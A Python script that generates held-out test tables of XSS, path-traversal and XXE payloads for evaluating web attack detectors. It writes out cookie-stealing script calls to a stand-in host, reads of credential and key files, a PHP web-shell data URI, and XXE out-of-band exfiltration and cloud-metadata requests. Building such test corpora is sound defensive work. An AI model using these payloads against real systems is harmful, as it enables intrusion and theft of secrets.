#!/usr/bin/env python3
"""gen-heldout-web.py - write held-out positive tables for the XSS, path
traversal and XXE detectors (issue 20), written by someone who did not write
those detectors and did not follow the earlier generators' grammar:
  tests/data/gen-heldout-xss.txt
  tests/data/gen-heldout-trav.txt
  tests/data/gen-heldout-xxe.txt
one value a line, as it would arrive in a query parameter (bytes a URL
cannot carry raw are percent-encoded; some rows encode more).

Built from specifications, not from lists:
  XSS   the WHATWG tokenizer's ways into script that the earlier tables
        skip: comment, bogus-comment and CDATA states that end early
        ("<!-->", "<? ...>", "<![CDATA[>"), raw-text elements closed by a
        value (</style> </noscript> </xmp> </iframe> </noembed>
        </plaintext>-less), mutation through foreign content (svg/math
        holding style or mglyph), conditional comments, CSS escapes
        (\\6a avascript, \\0065xpression) and comments inside CSS keywords,
        JS-string breaks with every binary operator ('in' '^' '|' '%' '**'
        '?:' ','), the JS escapes \\x3c \\u003c \\u{3c} \\74 of markup in a
        JSON or script string, UTF-7 markup, HTML+TIME and data islands,
        SSI and server-page tags that print markup, Netscape JS entities
        (&{...};), meta refresh / Set-Cookie / Link carriers, template
        and framework sinks that run code (AngularJS {{constructor...}},
        Vue v-on / :href, htmx hx-on, x-init) in a reflected attribute.
  trav  targets the earlier tables do not name (keys, histories, logs,
        container and cloud secrets, Windows hives and unattend files,
        IIS/Tomcat/Java configuration) x the ascent written the way a
        decoder on that target reads it: four-byte overlong UTF-8
        (%f0%80%80%ae), %e0%80%ae, JS/JSON escapes (\\u002e \\x2e), HTML
        entities (&#46;&#46;&#47;), IIS %u2216/%u2215/%uff0f, Tomcat
        path parameters (..;jsessionid=x/, /;x=y/..), Windows \\\\?\\ and
        \\\\.\\ device paths, UNC admin shares, ::$DATA and trailing dots
        and spaces, 8.3 short names, NUL then an extension, wrappers
        (php://filter chains, phar://, zip://#, compress.zlib://,
        glob://, data:// with a PHP body, jar:file:, file://localhost/).
  XXE   the XML 1.0 DTD grammar the earlier tables skip: parameter
        entities defined by other parameter entities (&#x25; inside an
        entity value: the out-of-band form), external parameter entities
        alone, entity expansion without SYSTEM (billion laughs), NOTATION
        and unparsed ENTITY ... NDATA, ATTLIST defaults that reference an
        entity, conditional sections (<![INCLUDE[ ]]>) in an external
        subset, XInclude in any prefix or as the default namespace,
        XSLT document()/unparsed-text()/xsl:include, xsi:schemaLocation
        to elsewhere, SVG/SOAP/XLSX carriers, and whole documents in
        UTF-16 (LE/BE, with and without BOM) and UTF-7.
Deterministic. Usage: tools/gen-heldout-web.py [DIR] (default tests/data)."""
import os
import random
import sys
import urllib.parse

SEED = int(os.environ.get("SEED", "4711"))
R = random.Random(SEED)


def enc(v, how):
    """percent-encode v the way a client would put it in a query value"""
    if how == "raw":       # only what a URL cannot carry
        out = []
        for ch in v:
            o = ord(ch)
            if o < 0x21 or o > 0x7e or ch in "%&#+":
                out.append("".join("%%%02X" % b for b in ch.encode("utf-8")))
            else:
                out.append(ch)
        return "".join(out)
    if how == "form":      # an HTML form: spaces as '+'
        return urllib.parse.quote_plus(v, safe="")
    if how == "all":       # every byte escaped
        return "".join("%%%02x" % b for b in v.encode("utf-8"))
    if how == "double":    # escaped, then the '%' escaped again
        return urllib.parse.quote(urllib.parse.quote(v, safe=""), safe="")
    return urllib.parse.quote(v, safe="/:")


def emit(rows, v, weights=(("raw", 5), ("form", 3), ("std", 2), ("all", 1), ("double", 1))):
    names = [w[0] for w in weights]
    ws = [w[1] for w in weights]
    rows.append(enc(v, R.choices(names, ws)[0]))


# --- XSS -------------------------------------------------------------------
CALL = ["alert(1)", "alert`1`", "prompt(document.domain)", "confirm(1)", "eval(name)",
        "fetch('//a.example/'+document.cookie)", "import('//a.example/m.js')",
        "top[/al/.source+/ert/.source](1)", "window[atob('YWxlcnQ=')](1)",
        "Function`a${'lert(1)'}```", "setTimeout(name)", "location=`javas`+`cript:alert(1)`",
        "[].constructor.constructor('alert(1)')()", "document.write`<script src=//a.example>`",
        "with(document)alert(cookie)", "(0,alert)(1)", "alert?.(1)", "open('//a.example')"]

# a value that closes the context it landed in, then opens markup
BREAK = ["", "\">", "'>", ">", "</textarea>", "</style>", "</noscript>", "</xmp>", "</iframe>",
         "</noembed>", "</noframes>", "</title>", "--!>", "-->", "]]>", "</select>", "</template>",
         "</option></select>", "\"/>", "' />", "</a>", "</script>"]

# markup that reaches script through the tokenizer's less-travelled states
def xss_markup(c):
    q = R.choice(["", "\"", "'"])
    return R.choice([
        "<!--><img src=x onerror=%s>-->" % c,
        "<!---><svg onload=%s>" % c,
        "<? x=\"><img src=x onerror=%s>\">" % c,
        "<![CDATA[><img src=x onerror=%s>]]>" % c,
        "</x =\"><img src=x onerror=%s>\">" % c,
        "<noscript><p title=\"</noscript><img src=x onerror=%s>\">" % c,
        "<svg><style><img src=x onerror=%s></style></svg>" % c,
        "<math><mtext><table><mglyph><style><img src=x onerror=%s>" % c,
        "<svg></p><style><a id=\"</style><img src=x onerror=%s>\">" % c,
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=%s src>\">" % c,
        "<!--[if gte IE 4]><script>%s</script><![endif]-->" % c,
        "<![if !IE]><script>%s</script><![endif]>" % c,
        "<xml id=i><x><c><![CDATA[<img src=x onerror=%s>]]></c></x></xml>" % c,
        "<t:set attributeName=innerHTML to=\"<script defer>%s</script>\">" % c,
        "<?import namespace=t implementation=#default#time2><t:animate values=%sjavascript:%s>" % (q, c),
        "<!--#echo var=\"x\" --><script>%s</script>" % c,
        "<!--#exec cmd=\"echo '<scr'\"--><!--#exec cmd=\"echo 'ipt>%s</script>'\"-->" % c,
        "<%% out.print(\"<scr\"+\"ipt>%s</scr\"+\"ipt>\"); %%>" % c,
        "<?php echo '<scr'.'ipt>%s</scr'.'ipt>'; ?>" % c,
        "<br size=\"&{%s}\">" % c,
        "<img src=\"&{%s};\">" % c,
        "<meta http-equiv=refresh content=\"0;url=javascript:%s\">" % c,
        "<meta http-equiv=\"Set-Cookie\" content=\"sid=<script>%s</script>\">" % c,
        "<meta http-equiv=Link content=\"<//a.example/x.css>; rel=stylesheet\">",
        "<meta charset=utf-7>+ADw-script+AD4-%s+ADw-/script+AD4-" % c,
        "+ADw-img src=x onerror=%s+AD4-" % c,
        "+ADw-svg/onload+AD0-%s+AD4-" % c,
        "<div style=\"background:url(\\6a avascript:%s)\">" % c,
        "<div style=\"width:\\65 xpression(%s)\">" % c,
        "<div style=\"x:ex/**/pression(%s)\">" % c,
        "<div style=\"x:\\65 \\78 pr\\65 ssion(%s)\">" % c,
        "<style>*{background:url('\\00006a\\61vascript:%s')}</style>" % c,
        "<style>@im\\port '//a.example/x.css';</style>",
        "<style>@import url(//a.example/x.css)</style>",
        "<style>body{-moz-binding:url(//a.example/x.xml#x)}</style>",
        "<x style=\"behavior:url(//a.example/x.htc)\">",
        "<style>li{list-style-image:url(\"javascript:%s\")}</style><ul><li>x" % c,
        "<object type=text/x-scriptlet data=//a.example/s.html></object>",
        "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:%s></object>" % c,
        "<embed code=//a.example/x.swf allowscriptaccess=always>",
        "<applet code=X.class codebase=//a.example/>",
        "<input type=hidden accesskey=x onclick=%s>" % c,
        "<a id=x tabindex=0 onfocusin=%s></a>" % c,
        "<video><source onerror=%s>" % c,
        "<audio controls autoplay oncanplaythrough=%s><source src=//a.example/a.wav></audio>" % c,
        "<svg><animatetransform onbegin=%s attributeName=transform>" % c,
        "<svg><discard onbegin=%s>" % c,
        "<svg><script xlink:href=data:,%s></script>" % c,
        "<svg><script href=//a.example/x.js />",
        "<svg><a><animate attributeName=href values=javascript:%s /><text y=20>x</text></a>" % c,
        "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;%s&lt;/script&gt;\">" % c,
        "<math><maction actiontype=statusline xlink:href=javascript:%s>x</maction></math>" % c,
        "<math href=javascript:%s>x</math>" % c,
        "<iframe srcdoc=\"<svg onload=%s>\">" % c,
        "<iframe src=\"data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\"></iframe>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<form id=f><button form=f formaction=javascript:%s>x" % c,
        "<isindex type=image src=1 onerror=%s>" % c,
        "<base href=//a.example/><script src=/x.js></script>",
        "<link rel=import href=//a.example/x.html>",
        "<portal src=//a.example/>",
        "<script>/*</script><script>*/%s</script>" % c,
        "<script src=data:text/javascript,%s></script>" % c,
        "<script type=module>import'//a.example/m.js'</script>",
        "<script type=text/vbscript>MsgBox 1</script>",
        "<scr<script>ipt>%s</scr</script>ipt>" % c,
        "<<script>%s//<</script>" % c,
        "<img \"\"\"><script>%s</script>\">" % c,
        "<img src=`x`onerror=%s>" % c,
        "<img src=x:x onerror%s=%s>" % (R.choice(["", " ", "\n", "\t"]), c),
        "<a href=\"&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;%s\">x</a>" % c,
        "<a href=\"javascript&#x3A;%s\">x</a>" % c,
        "<a href=\"javascript://%%0a%s\">x</a>" % c,
        "<a href=\"\x0bjavascript:%s\">x</a>" % c,
        "<a href=\"jav\x00ascript:%s\">x</a>" % c,
        "<a href=\"data:text/html;charset=utf-7,+ADw-script+AD4-%s+ADw-/script+AD4-\">x</a>" % c,
        "<details ontoggle=%s open>" % c,
        "<body onpageshow=%s>" % c,
        "<marquee behavior=alternate onbounce=%s>x</marquee>" % c,
        "<div x-init=\"%s\"></div>" % c,
        "<div hx-on:click=\"%s\">x</div>" % c,
        "<div v-on:click=\"%s\">x</div>" % c,
        "<a :href=\"'javascript:%s'\">x</a>" % c,
        "<div ng-app ng-csp><input autofocus ng-focus=$event.view.%s>" % c,
        "{{constructor.constructor('%s')()}}" % c,
        "{{$on.constructor('%s')()}}" % c,
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };%s//');}}" % c,
    ])


# breaking out of a JS string or template the value was reflected into
def xss_js(c):
    q = R.choice(["'", "\""])
    op = R.choice(["-", "+", "*", "/", "%", "^", "|", "&", "**", " in ", "==", "<", ">", ",", "?", "&&", "||"])
    tail = {"?": ":'", "**": "**" + q}.get(op, op + q)
    return R.choice([
        "%s%s%s%s" % (q, op, c, tail if op != "?" else ":" + q),
        "%s;%s//" % (q, c),
        "%s;%s;var x=%s" % (q, c, q),
        "\\%s;%s//" % (q, c),
        "%s)%s%s//" % (q, ";", c),
        "%s}%s;{//" % (q, c),
        "%s]%s//" % (q, ";" + c + ";["),
        "`${%s}`" % c,
        "${%s}" % c,
        "\\x3cimg src=x onerror=%s\\x3e" % c,
        "\\u003csvg onload=%s\\u003e" % c,
        "\\u{3c}script\\u{3e}%s\\u{3c}/script\\u{3e}" % c,
        "\\74img src=x onerror=%s\\76" % c,
        "\\x3c/script\\x3e\\x3cscript\\x3e%s\\x3c/script\\x3e" % c,
        "</script><script>%s</script>" % c,
        "</sCrIpT ><svg onload=%s>" % c,
        "-->%s<!--" % ("</script><img src=x onerror=" + c + ">"),
        "%s-%s-%s" % (q, c, q),
    ])


def xss_attr(c):
    """a value reflected inside a tag: add an attribute that runs script"""
    q = R.choice(["\"", "'", "", "`"])
    sep = R.choice([" ", "/", "\n", "\t", "\x0c", "/x/", " /"])
    ev = R.choice(["onfocus", "onmouseover", "onpointerenter", "onanimationstart", "onfocusin",
                   "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange", "onauxclick",
                   "ontransitionrun", "onbeforecopy", "onselectstart", "onwebkitmouseforcedown"])
    extra = R.choice(["autofocus", "tabindex=1", "style=animation-name:x", "popover", "style=display:block",
                      "contenteditable", ""])
    return "%s%s%s=%s%s%s%s" % (q, sep, ev, "", c, sep if extra else "", extra) + (" x=" + q if q else "")


def gen_xss(n):
    R.seed(SEED)
    rows = []
    for _ in range(n):
        c = R.choice(CALL)
        k = R.random()
        if k < 0.55:
            v = R.choice(BREAK) + xss_markup(c)
        elif k < 0.8:
            v = xss_js(c)
        else:
            v = xss_attr(c)
        if R.random() < 0.2 and k < 0.55:
            # HTML names are case-insensitive, script is not: only the
            # markup around the call changes case, and no JS escape
            v = c.join("".join(ch.upper() if R.random() < 0.4 else ch for ch in part)
                       for part in v.split(c)) if "\\u" not in v else v
        emit(rows, v)
    return rows


# --- traversal -------------------------------------------------------------
UNIX = ["etc/shadow", "etc/group", "etc/issue", "etc/hosts", "etc/crontab", "etc/sudoers",
        "etc/ssh/sshd_config", "etc/mysql/my.cnf", "etc/php/7.4/apache2/php.ini", "etc/nginx/sites-enabled/default",
        "root/.ssh/id_rsa", "root/.ssh/authorized_keys", "root/.bash_history", "home/ubuntu/.aws/credentials",
        "home/app/.docker/config.json", "var/log/apache2/access.log", "var/log/nginx/error.log", "var/log/auth.log",
        "var/run/secrets/kubernetes.io/serviceaccount/token", "proc/self/environ", "proc/self/cmdline",
        "proc/self/fd/2", "proc/self/cwd/app.py", "proc/1/root/etc/passwd", "proc/version", "proc/net/tcp",
        "usr/local/tomcat/conf/tomcat-users.xml", "opt/tomcat/conf/server.xml", "var/lib/mysql/mysql/user.MYD",
        "etc/passwd", "srv/app/.env", "app/config/database.yml", "var/www/html/wp-config.php",
        "etc/kubernetes/admin.conf", "root/.kube/config", "etc/ssl/private/server.key"]
WIN = ["windows/win.ini", "windows/system.ini", "boot.ini", "windows/system32/drivers/etc/hosts",
       "windows/repair/sam", "windows/system32/config/SAM", "windows/panther/unattend.xml",
       "windows/debug/netsetup.log", "inetpub/wwwroot/web.config", "inetpub/logs/LogFiles/W3SVC1/u_ex.log",
       "windows/system32/inetsrv/config/applicationHost.config", "users/administrator/ntuser.dat",
       "progra~1/mysql/my.ini", "xampp/apache/conf/httpd.conf", "windows/microsoft.net/framework64/v4.0.30319/config/web.config",
       "windows/system32/license.rtf", "autoexec.bat"]
APP = ["WEB-INF/web.xml", "WEB-INF/classes/application.properties", "WEB-INF/classes/hibernate.cfg.xml",
       "META-INF/context.xml", "META-INF/MANIFEST.MF", ".git/config", ".git/HEAD", ".svn/entries", ".env",
       ".htpasswd", ".htaccess", "config/secrets.yml", "appsettings.json", "web.config", ".aws/credentials",
       ".ssh/id_ed25519", "composer.lock", "settings.py", ".npmrc", ".DS_Store"]

# one parent step, written the way some decoder on the way reads it
DOT2 = ["..", "%2e%2e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "%f0%80%80%ae%f0%80%80%ae", "\\u002e\\u002e",
        "\\x2e\\x2e", "&#46;&#46;", "&#x2e;&#x2e;", "%u002e%u002e", "%uff0e%uff0e", ".%00.", "..%00",
        "%252e%252e", "%2e.", ".%2e", "..%20", "...", "..%0d", "%c0%2e%c0%2e", "\\056\\056", "\u2024\u2024",
        "\uff0e\uff0e", "%25c0%25ae%25c0%25ae", "..;", "..;jsessionid=x", "%2e%2e;", "..%3b"]
SEP = ["/", "\\", "%2f", "%5c", "%c0%af", "%c1%9c", "%e0%80%af", "%f0%80%80%af", "%u2215", "%u2216", "%uff0f",
       "%uff3c", "\\u002f", "\\x2f", "&#47;", "&#x2f;", "%252f", "%255c", "//", "\\\\", "/./", "\\/", "%5c/",
       "\u2215", "\uff0f", "\\057", "%c0%5c"]


def trav_step():
    d = R.choice(DOT2)
    s = R.choice(SEP)
    return d + s


def gen_trav(n):
    R.seed(SEED + 1)
    rows = []
    for _ in range(n):
        k = R.random()
        if k < 0.55:        # ascent, then a target
            tgt = R.choice(UNIX + WIN + APP)
            depth = R.randint(2, 9)
            step = trav_step() if R.random() < 0.6 else None
            steps = "".join(step if step else trav_step() for _ in range(depth))
            sep = R.choice(["/", "\\", "%2f", "%5c"]) if R.random() < 0.3 else "/"
            if tgt in WIN and R.random() < 0.6:
                sep = "\\"
            body = tgt.replace("/", sep)
            pre = R.choice(["", "", "/", "./", "img/", "static\\", "file=", "x/", "%2f", "/;x=y/",
                            "/static;/", "/.;/", "//"])
            post = R.choice(["", "", "", "%00", "%00.png", "\x00.html", "::$DATA", ".", ". . .", " ",
                             "%20", "?", "#", ";.jpg", "%2500.jpg", "/.", "/", "%0a"])
            v = pre + steps + body + post
        elif k < 0.75:      # a Windows absolute or device path
            tgt = R.choice(WIN)
            drive = R.choice(["c:", "C:", "d:"])
            sep = R.choice(["\\", "/", "\\\\", "%5c"])
            form = R.choice(["%s%s%s", "\\\\?\\%s%s%s", "\\\\.\\%s%s%s", "\\\\localhost\\c$\\%.0s%.0s%s",
                             "\\\\127.0.0.1\\c$\\%.0s%.0s%s", "//?/%s%s%s", "file:///%s%s%s",
                             "file://localhost/%s%s%s", "\\\\?\\UNC\\127.0.0.1\\c$\\%.0s%.0s%s"])
            v = form % (drive, sep, tgt.replace("/", sep))
            if R.random() < 0.3:
                v += R.choice(["::$DATA", ".", " ", ":$I30:$INDEX_ALLOCATION", "%00"])
        else:               # a wrapper or URL scheme that reads a file
            tgt = "/" + R.choice(UNIX)
            app = R.choice(["index.php", "../config.php", "config/database.php", "/var/www/html/index.php",
                            "..%2fconfig.php", "wp-config.php"])
            v = R.choice([
                "php://filter/read=convert.base64-encode/resource=%s" % app,
                "php://filter/convert.iconv.utf-8.utf-16le|convert.base64-encode/resource=%s" % app,
                "php://filter/string.rot13/resource=%s" % app,
                "php://filter/zlib.deflate/convert.base64-encode/resource=%s" % tgt,
                "PHP://FILTER/resource=%s" % tgt,
                "pHp://fIlTeR/convert.quoted-printable-encode/resource=%s" % tgt,
                "php://fd/3", "php://input", "php://stdin",
                "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==",
                "data:text/plain,<?php system($_GET['c']); ?>",
                "zip://uploads/a.jpg#shell.php", "zip:///tmp/a.zip%23b.php",
                "phar://uploads/avatar.jpg/x.php", "phar:///var/www/uploads/a.gif",
                "compress.zlib://%s" % tgt, "compress.bzip2://%s" % tgt, "glob:///etc/*",
                "expect://id", "jar:file:///opt/app/app.jar!/BOOT-INF/classes/application.yml",
                "file://localhost%s" % tgt, "file:%s" % tgt, "FILE:///%s" % tgt.lstrip("/"),
                "file:/%s" % tgt, "file:///%s" % tgt.replace("/", "%2f"), "file://\\%s" % tgt.replace("/", "\\"),
                "netdoc:///%s" % tgt.lstrip("/"), "ssh2.sftp://a.example%s" % tgt,
                "classpath:../../application.properties", "jar:http://a.example/x.jar!/",
            ])
        emit(rows, v, (("raw", 6), ("std", 2), ("form", 1), ("double", 1)))
    return rows


# --- XXE -------------------------------------------------------------------
TARGETS = ["file:///etc/passwd", "file:///c:/windows/win.ini", "http://169.254.169.254/latest/meta-data/",
           "http://a.example/x.dtd", "https://a.example:8443/e", "ftp://a.example/x", "gopher://a.example:25/_x",
           "php://filter/convert.base64-encode/resource=/etc/hosts", "jar:http://a.example/x.jar!/x.dtd",
           "/etc/passwd", "..\\..\\windows\\win.ini", "\\\\a.example\\share\\x.dtd", "file:/proc/self/environ",
           "dict://127.0.0.1:6379/info", "netdoc:/etc/shadow", "http://127.0.0.1:8080/admin"]


def decl():
    return R.choice(["", "<?xml version=\"1.0\"?>", "<?xml version='1.0' encoding='UTF-8' standalone='no'?>",
                     "<?xml version=\"1.1\"?>\n"])


def xxe_doc():
    t = R.choice(TARGETS)
    root = R.choice(["r", "foo", "soap:Envelope", "svg", "methodCall", "x:y", "data"])
    kw = R.choice(["SYSTEM \"%s\"" % t, "SYSTEM '%s'" % t, "PUBLIC \"-//A//B//EN\" \"%s\"" % t,
                   "PUBLIC '' '%s'" % t])
    ws = R.choice([" ", "\n", "\t", "  ", "\r\n"])
    k = R.randrange(14)
    if k == 0:      # out-of-band: a parameter entity defines another one
        sub = ("<!ENTITY%%%sf%s%s><!ENTITY%%%se \"<!ENTITY &#x25; x SYSTEM 'http://a.example/?%%f;'>\">%%e;%%x;"
               % (ws, ws, kw, ws))
    elif k == 1:    # an external parameter entity, expanded in the subset
        sub = "<!ENTITY %% dtd %s>%%dtd;" % kw
    elif k == 2:    # expansion without SYSTEM: billion laughs
        sub = "<!ENTITY a \"aaaaaaaaaa\">" + "".join(
            "<!ENTITY %s \"%s\">" % (chr(98 + i), ("&%s;" % chr(97 + i)) * 10) for i in range(R.randint(3, 8)))
        return decl() + "<!DOCTYPE %s [%s]><%s>&%s;</%s>" % (root, sub, root, chr(98 + 2), root)
    elif k == 3:    # an unparsed entity named by a notation
        sub = "<!NOTATION n SYSTEM \"x\"><!ENTITY u %s NDATA n>" % kw
    elif k == 4:    # an attribute default that references an external entity
        sub = "<!ENTITY e %s><!ATTLIST %s a CDATA \"&e;\">" % (kw, root)
    elif k == 5:    # DOCTYPE with only an external subset
        return decl() + "<!DOCTYPE%s%s%s%s><%s/>" % (ws, root, ws, kw, root)
    elif k == 6:    # XInclude, any prefix or the default namespace
        p = R.choice(["xi:", "x:", "inc:", ""])
        ns = "xmlns%s=\"http://www.w3.org/2001/XInclude\"" % ((":" + p[:-1]) if p else "")
        return decl() + "<%s><%sinclude %s href=\"%s\" parse=\"%s\"/></%s>" % (
            root, p, ns, t, R.choice(["text", "xml"]), root)
    elif k == 7:    # XSLT reading files or fetching
        fn = R.choice(["document('%s')" % t, "unparsed-text('%s')" % t, "doc('%s')" % t])
        return ("<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                "<xsl:template match=\"/\"><xsl:copy-of select=\"%s\"/></xsl:template></xsl:stylesheet>" % fn)
    elif k == 8:
        return ("<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">"
                "<xsl:include href=\"%s\"/></xsl:stylesheet>" % t)
    elif k == 9:    # schema location pointing elsewhere
        return decl() + ("<%s xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                         "xsi:noNamespaceSchemaLocation=\"%s\"/>" % (root, t))
    elif k == 10:   # SVG image reading a file
        return ("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
                "<image xlink:href=\"%s\"/></svg>" % t)
    elif k == 11:   # conditional section in a subset
        sub = "<![INCLUDE[<!ENTITY e %s>]]>" % kw
    elif k == 12:   # entity in a SOAP body
        return ("<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
                "<soap:Body><!DOCTYPE x [<!ENTITY e %s>]><x>&e;</x></soap:Body></soap:Envelope>" % kw)
    else:           # general entity, reference in content
        sub = "<!ENTITY%se%s%s>" % (ws, ws, kw)
    return decl() + "<!DOCTYPE%s%s%s[%s]><%s>&e;</%s>" % (ws, root, ws, sub, root, root)


def utf7(s):
    """RFC 2152: every character outside the directly encoded set shifted"""
    import base64
    out, buf = [], ""
    direct = set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'(),-./:? \t\r\n")

    def flush():
        if buf:
            b = base64.b64encode(buf.encode("utf-16-be")).decode().rstrip("=")
            out.append("+" + b + "-")
    for ch in s:
        if ch in direct:
            flush()
            buf = ""
            out.append(ch)
        else:
            buf += ch
    flush()
    return "".join(out)


def gen_xxe(n):
    R.seed(SEED + 2)
    rows = []
    for _ in range(n):
        d = xxe_doc()
        k = R.random()
        if k < 0.6:
            emit(rows, d)
        elif k < 0.8:   # UTF-16, the bytes percent-encoded
            codec = R.choice(["utf-16-le", "utf-16-be", "utf-16"])
            bom = {"utf-16-le": "\ufeff" if R.random() < 0.5 else "", "utf-16-be": "\ufeff" if R.random() < 0.5 else ""}.get(codec, "")
            d = d.replace("encoding='UTF-8'", "encoding='UTF-16'")
            rows.append("".join("%%%02X" % b for b in (bom + d).encode(codec)))
        else:           # UTF-7
            head = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" if R.random() < 0.7 else ""
            body = d.split("?>", 1)[1] if d.startswith("<?xml") else d
            emit(rows, head + utf7(body), (("raw", 3), ("std", 1)))
    return rows


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "tests/data"
    for name, rows in (("xss", gen_xss(1500)), ("trav", gen_trav(1500)), ("xxe", gen_xxe(600))):
        seen, uniq = set(), []
        for r in rows:
            if r not in seen and "\n" not in r:
                seen.add(r)
                uniq.append(r)
        with open(os.path.join(out, "gen-heldout-%s.txt" % name), "w") as f:
            f.write("\n".join(uniq) + "\n")


if __name__ == "__main__":
    main()
